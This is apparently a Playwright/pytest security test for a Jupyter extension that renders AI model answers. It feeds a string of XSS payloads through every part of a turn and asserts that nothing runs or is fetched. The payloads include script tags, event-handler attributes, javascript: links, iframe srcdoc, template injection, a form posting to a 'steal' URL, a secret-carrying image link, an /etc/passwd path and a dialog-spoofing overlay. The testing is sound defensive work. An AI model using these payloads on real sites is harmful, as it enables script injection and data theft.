"""A hostile answer: nothing of it runs, is fetched, or looks like a part of the application."""

from __future__ import annotations

import pytest
from browsing import App, until

pytestmark = [pytest.mark.timeout(300), pytest.mark.usefixtures("kept_page")]

READY = "import playing as p; p.wait_until_watched()"

HOSTILE = r"""
<script>window.pwned = 'script'</script>
<img src=x onerror="window.pwned = 'onerror'">
<svg onload="window.pwned = 'svg'"><script>window.pwned = 'svg script'</script></svg>
<iframe srcdoc="<script>parent.pwned = 'iframe'</script>"></iframe>
<details open ontoggle="window.pwned = 'toggle'"><summary>s</summary></details>
<style>body { display: none }</style>
<form action="https://example.com/steal"><input name=q><button data-action="run">Run</button></form>
<div class="jp-Dialog" style="position:fixed;inset:0" id="jp-main-dock-panel">over all</div>
<video src="https://example.com/v" autoplay></video>

![exfiltrated](https://example.com/p?secret=1) [run me](javascript:window.pwned='link')
[file](../../etc/passwd) [good](https://example.com/ok) <base href="https://example.com/">

```python
</code></pre><script>window.pwned = 'fence'</script>
```

$\href{javascript:window.pwned='mathjax'}{x}$ and $$\unicode{x3c}script\unicode{x3e}$$

{{constructor.constructor("window.pwned='template'")()}}
"""

CELL = """
from gemini_magic.turn.parts import *
h = HOSTILE
p.HOW(p.turn((Thought(h), Text(h), Code(h, h), Result('OUTCOME_OK"><script>', h),
    Image('image/svg+xml', h.encode()), Call(h, {h: h}), Response(h, {h: h}),
    Opaque({h: h}), File(h, uri='javascript:window.pwned="uri"')), status='failed',
    message=h, reused={'stored': h}, model_version=h,
    grounding={'groundingMetadata': {
        'groundingChunks': [{'web': {'uri': 'javascript:window.pwned="source"',
                                           'title': h}}],
        'searchEntryPoint': {'renderedContent': h + '<a href="javascript:1">c</a>'}}}))
"""


def cell(how: str) -> str:
    return CELL.replace("HOSTILE", repr(HOSTILE)).replace("HOW", how)


@pytest.mark.parametrize("how", ["show", "play"])
def test_a_hostile_answer_is_inert(app: App, how: str) -> None:
    app.open([READY, cell(how)])
    app.run(0)
    app.run(1)
    turn = app.turn(1)
    until(lambda: turn.get_attribute("data-status") == "failed", "the answer")
    for section in turn.locator("summary.gm-Summary").all():
        section.click()
    for link in turn.locator("a").all():
        assert (link.get_attribute("href") or "https://").startswith(("https://", "mailto:"))
    assert turn.locator("script, form, input, video, [style*=fixed]").count() == 0
    drawn = turn.locator("svg").evaluate_all(
        "all => all.map(s => [s.dataset.icon, s.closest('button').querySelectorAll('svg').length])"
    )
    assert all(str(name).startswith("ui-components:") and count == 1 for name, count in drawn), (
        "the only drawings are the icons of the application, one to a button"
    )
    assert (
        turn.locator("[class*='jp-Dialog'], [id]:not(mjx-container *, button svg *)").count() == 0
    )
    frames = turn.locator("iframe").all()
    assert [frame.get_attribute("sandbox") for frame in frames] == [
        "allow-popups allow-popups-to-escape-sandbox"
    ]
    actions = turn.locator("button").evaluate_all("all => all.map(b => b.dataset.action)")
    assert set(actions) <= {*("copy", "continue", "stop", "insert", "run", "verify", "counts")}
    assert turn.locator('a[href="https://example.com/ok"]').count() >= 1, "a good link stays"
    app.page.wait_for_timeout(500)
    assert app.js("window.pwned") is None
    assert app.js("getComputedStyle(document.body).display") != "none"
    assert app.foreign == [], "nothing is fetched from elsewhere"


def test_a_hostile_saved_notebook_is_inert_in_a_trusted_page(lab: App) -> None:
    lab.open([READY, cell("show")])
    lab.run(0)
    lab.run(1)
    until(lambda: lab.turn(1).count() == 1, "the answer")
    lab.save()
    lab.reload()
    lab.turn(1).wait_for()
    lab.js("void window.jupyterapp.commands.execute('notebook:trust')")
    lab.page.locator(".jp-Dialog .jp-mod-accept").click()
    lab.turn(1).wait_for()
    lab.page.wait_for_timeout(1000)  # the canary needs time to sing
    assert lab.js("window.pwned") is None
    assert lab.foreign == []
